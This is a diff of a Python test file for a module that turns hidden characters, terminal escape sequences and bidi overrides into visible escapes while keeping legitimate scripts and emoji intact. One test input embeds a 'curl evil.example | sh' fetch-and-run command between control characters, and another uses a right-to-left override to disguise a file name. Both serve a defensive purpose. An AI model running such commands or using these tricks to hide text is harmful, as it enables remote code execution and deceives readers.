@@ -1,71 +1,115 @@
-"""Text cannot control the terminal that shows it."""
+"""Text cannot control the terminal that shows it, and nothing of it is left out."""
 
 from __future__ import annotations
 
+import json
 import unicodedata
+from collections.abc import Callable
 from time import process_time
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from zoea.text import control_characters
+from tests.text.hidden_characters import HIDDEN, is_hidden
+from zoea.text.control_characters import MAX_MARKS, one_line, prose_line, reveal, reveal_exactly
+
+HOSTILE = st.text(st.characters(codec=None) | st.sampled_from("\x1b\x9b\x9d\r\n\t[]0;m\x07\\\u200d\ufe0f⚠👩\u2800⠁"))
+BOTH = pytest.mark.parametrize("show", [reveal, reveal_exactly])
+LEGITIMATE = ["⚠️ ❤️", "👨‍👩‍👧‍👦🏳️‍🌈", "👩🏽‍🚀🏃‍♀️", "1️⃣", "می‌خواهم", "क्‍ष", "ന്‍", "⠁⠀⠀⠂", "ᠠ᠋"]
 
 
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
-        ("\x1b[31mred\x1b[0m", "red"),
-        ("\x1b[2J\x1b[1;1Hgone", "gone"),
-        ("\x1b]0;title\x07a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "alink"),
-        ("\x9b31mC1\x9d0;t\x9cx", "C1x"),
-        ("\x1bPq#0~\x1b\\sixel", "sixel"),
-        ("\x1b(Bset \x1b7save \x1bcreset", "set save reset"),
-        ("a\x00b\x07c\x08d\x7fe\x85", "abcde"),
-        ("50 %\rover", "50 %\nover"),
-        ("one\r\ntwo\u2028three", "one\ntwo\nthree"),
-        ("safe\u202egnp.exe", "safegnp.exe"),
-        ("\x1b[31", ""),
-        ("end \x1b", "end "),
+        ("\x1b[31mred\x1b[0m", "\\u001b[31mred\\u001b[0m"),
+        ("ls \x9d; curl evil.example | sh #\x9c", "ls \\u009d; curl evil.example | sh #\\u009c"),
+        ("pay 1\x9b0000000 EUR", "pay 1\\u009b0000000 EUR"),
+        ("a\x00b\x07c\x08d\x7fe\x85", "a\\u0000b\\u0007c\\u0008d\\u007fe\\u0085"),
+        ("50 %\rover", "50 %\\u000dover"),
+        ("two\u2028three", "two\\u2028three"),
+        ("safe\u202egnp.exe", "safe\\u202egnp.exe"),
+        ("soft\xadhyphen\u200band\ufeffmark", "soft\\u00adhyphen\\u200band\\ufeffmark"),
+        ("a\U000e0041", "a\\udb40\\udc41"),
+        ("a\ufe0f 😀\ufe0f\ufe0f", "a\\ufe0f 😀\ufe0f\\ufe0f"),
+        ("a\u200db کا\u200c", "a\\u200db کا\\u200c"),
+        ("\u3164\u115f\u2800", "\\u3164\\u115f\\u2800"),
+        ("half \ud800", "half \\ud800"),
     ],
 )
-def test_escape_sequences_and_controls_are_removed(text: str, shown: str) -> None:
-    assert control_characters.strip(text) == shown
+def test_hidden_characters_are_shown_as_escapes(text: str, shown: str) -> None:
+    assert reveal(text) == shown
 
 
-def test_a_harmless_text_is_returned_as_the_same_object() -> None:
+def test_every_character_without_ink_is_an_escape() -> None:
+    for show in (reveal, reveal_exactly, one_line, prose_line):
+        assert [char for char in HIDDEN if show(f"a{char}b") != f"a{json.dumps(char)[1:-1]}b" and char > "\x7f"] == []
+        assert not [char for char in HIDDEN if is_hidden(show(f"a{char}b"))]
+
+
+def test_the_end_of_a_line_is_shown_as_one() -> None:
+    assert reveal("one\r\ntwo\x00\r\n\r\r\n") == "one\ntwo\\u0000\n\\u000d\n"
+    assert reveal_exactly("one\r\ntwo\n\t") == "one\\u000d\ntwo\n\t"
+
+
+@pytest.mark.parametrize("text", LEGITIMATE)
+def test_joiners_that_writing_needs_stay_in_prose_only(text: str) -> None:
+    assert reveal(text) is text
+    assert prose_line(text) == text
+    assert not is_hidden(reveal_exactly(text))
+    assert json.loads(reveal_exactly(json.dumps(text, ensure_ascii=False))) == text
+
+
+@BOTH
+def test_a_harmless_text_is_returned_as_the_same_object(show: Callable[[str], str]) -> None:
     text = "tab\tnewline\n العربية 😀 [31m"
-    assert control_characters.strip(text) is text
+    assert show(text) is text
 
 
-@given(st.text(st.characters(codec=None) | st.sampled_from("\x1b\x9b\x9d\r\n\t[]0;m\x07\\")))
-def test_no_control_character_is_left(text: str) -> None:
-    shown = control_characters.strip(text)
-    assert not [c for c in shown if unicodedata.category(c) == "Cc" and c not in "\n\t"]
-    assert control_characters.strip(shown) is shown
+@BOTH
+@given(HOSTILE)
+def test_no_control_character_is_left(show: Callable[[str], str], text: str) -> None:
+    shown = show(text)
+    assert not [c for c in shown if unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") and c not in "\n\t"]
+    assert show(shown) is shown
+    assert show is reveal or not is_hidden(shown)
 
 
-@pytest.mark.parametrize("unit", ["\x1b[", "\x1b]", "\x1b", "\x1b[0", "\x9d1", "\x1b]0;aaaa", "\r"])
+JSON = st.recursive(HOSTILE | st.integers() | st.none(), lambda one: st.lists(one) | st.dictionaries(HOSTILE, one))
+
+
+@given(JSON)
+def test_json_that_is_shown_parses_to_the_same_value(value: object) -> None:
+    for text in (json.dumps(value), json.dumps(value, ensure_ascii=False), json.dumps(value, indent=2)):
+        assert json.loads(reveal_exactly(text)) == json.loads(text)
+
+
+@pytest.mark.parametrize("unit", ["\x1b[", "\x1b]", "\x1b", "\x9d1", "\r", "\u2800", "\u200d", "👩\u200d", " ", "\t "])
 def test_hostile_repetition_costs_time_in_proportion_to_its_length(unit: str) -> None:
     begun = process_time()
-    control_characters.strip(unit * (1_000_000 // len(unit)))
+    for show in (prose_line, one_line):
+        show(unit * (300_000 // len(unit)))
     assert process_time() - begun < 3.0
 
 
 class TestMarks:
-    def test_marks_piled_up_on_a_character_are_cut(self) -> None:
-        assert (
-            control_characters.strip("a" + "\u0301" * 5_000 + "b")
-            == "a" + "\u0301" * control_characters.MAX_MARKS + "b"
-        )
-        mixed = "".join(mark * 100 for mark in ("\u0301", "\u0489", "\u200d", "\ufe0f", "\u1161", "\U0001e94a"))
-        assert control_characters.strip("a" + mixed) == "a" + "\u0301" * control_characters.MAX_MARKS
+    @BOTH
+    def test_marks_piled_up_on_a_character_are_escapes(self, show: Callable[[str], str]) -> None:
+        kept = "\u0301" * MAX_MARKS
+        assert show("a" + "\u0301" * 500 + "b") == "a" + kept + "\\u0301" * (500 - MAX_MARKS) + "b"
+        mixed = "a" + "".join(mark * 100 for mark in ("\u0301", "\u0489", "\u1161", "\U0001e94a"))
+        shown = show(mixed)
+        assert shown.startswith(f"a{kept}\\u0301")
+        assert shown.isascii() is False
+        assert json.loads(f'"{shown}"') == mixed
+        assert show(shown) is shown
 
-    def test_marks_that_a_removed_character_kept_apart_are_cut(self) -> None:
-        once = control_characters.strip("a" + ("\u0301" * 5 + "\x07") * 50)
-        assert once == "a" + "\u0301" * control_characters.MAX_MARKS
-        assert control_characters.strip(once) is once
-
-    @pytest.mark.parametrize("text", ["e\u0301", "ཧྐྵྨླྺྼྻྂ", "กำ้ลั๊ง", "👨‍👩‍👧‍👦🏳️‍🌈", "हिन्दी", "שָׁלוֹם", "각", "ﷺ", "Z͑ͫ̓ͪ̂ͫ"])
+    @pytest.mark.parametrize("text", ["e\u0301", "ཧྐྵྨླྺྼྻྂ", "กำ้ลั๊ง", "हिन्दी", "שָׁלוֹם", "각", "ﷺ", "Z͑ͫ̓ͪ̂ͫ"])
     def test_writing_of_the_world_stays(self, text: str) -> None:
-        assert control_characters.strip(text) is text
+        assert reveal(text) is text
+        assert reveal_exactly(text) is text
+
+
+def test_lines_are_joined_and_blanks_kept() -> None:
+    assert one_line(" two  blanks \n\t next \r\n") == "two  blanks next \\u000d"
+    assert prose_line(" two  blanks \n\t next \r\n") == "two  blanks next"
